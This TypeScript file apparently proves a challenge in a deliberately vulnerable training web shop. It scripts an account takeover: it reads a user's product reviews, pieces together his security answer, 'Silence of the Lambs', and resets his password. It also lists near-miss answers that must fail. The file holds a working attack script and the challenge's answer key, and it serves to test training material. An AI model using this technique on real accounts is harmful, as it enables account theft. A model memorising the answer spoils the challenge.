import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { resetPassword, spellingsOfReset } from '../../weaknesses/answer-opens-account/reset-password.ts'
import { challenge } from './challenge.ts'

const ANSWER = 'Silence of the Lambs'

interface Review {
  readonly author: string
  readonly message: string
}

async function reviewBy(attacker: Attacker, name: string, product: number): Promise<Review | undefined> {
  const reviews: Review[] = (await attacker.get(`/rest/products/${product}/reviews`)).json().data
  return reviews.find(({ author }) => author.startsWith(`${name}@`))
}

const reset = (attacker: Attacker, answer: string, more?: object) =>
  resetPassword(attacker, `uvogin@${attacker.domain}`, answer, more)

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const ofTheFilm = await reviewBy(attacker, 'uvogin', 3)
    await attacker.get(`/rest/user/security-question?email=${ofTheFilm?.author}`)
    const initial = /under (\w):/.exec(ofTheFilm?.message ?? '')?.[1] ?? '?'
    // His review of the best scene contains the words of the title across two sentences.
    const ofTheScene = await reviewBy(attacker, 'uvogin', 22)
    // linear-ok: an attempt begins at the start of a word and ends with it
    const words = new RegExp(`\\b(${initial}\\w+)\\. (Of the) (\\w)(\\w+)`).exec(ofTheScene?.message ?? '') ?? []
    const [, noun = '', link = '', capital = '', rest = ''] = words
    await resetPassword(
      attacker,
      ofTheFilm?.author ?? '',
      `${noun} ${link.toLowerCase()} ${capital.toUpperCase()}${rest}`,
    )
  },
  spellings: spellingsOfReset('uvogin', ANSWER),
  nearMisses: {
    'the title with its article': (attacker) => reset(attacker, 'The Silence of the Lambs'),
    'the title in small letters': (attacker) => reset(attacker, 'silence of the lambs'),
    'the title with every word in capitals': (attacker) => reset(attacker, 'Silence Of The Lambs'),
    'the title with one lamb': (attacker) => reset(attacker, 'Silence of the Lamb'),
    'the title with a full stop': (attacker) => reset(attacker, `${ANSWER}.`),
    'the title with two new passwords': (attacker) => reset(attacker, ANSWER, { new: 'riper', repeat: 'ripest' }),
    'the title for somebody else': (attacker) => resetPassword(attacker, `morty@${attacker.domain}`, ANSWER),
    'the title without an account': (attacker) => resetPassword(attacker, '', ANSWER),
    'the title as an answer of one’s own account': async (attacker) => {
      const { email } = await attacker.becomeCustomer()
      const { user } = (await attacker.get('/rest/user/whoami')).json()
      await attacker.post('/api/SecurityAnswers', { UserId: user.id, SecurityQuestionId: 12, answer: ANSWER })
      await resetPassword(attacker, email, ANSWER)
    },
    'the question alone': (attacker) => attacker.get(`/rest/user/security-question?email=uvogin@${attacker.domain}`),
  },
})
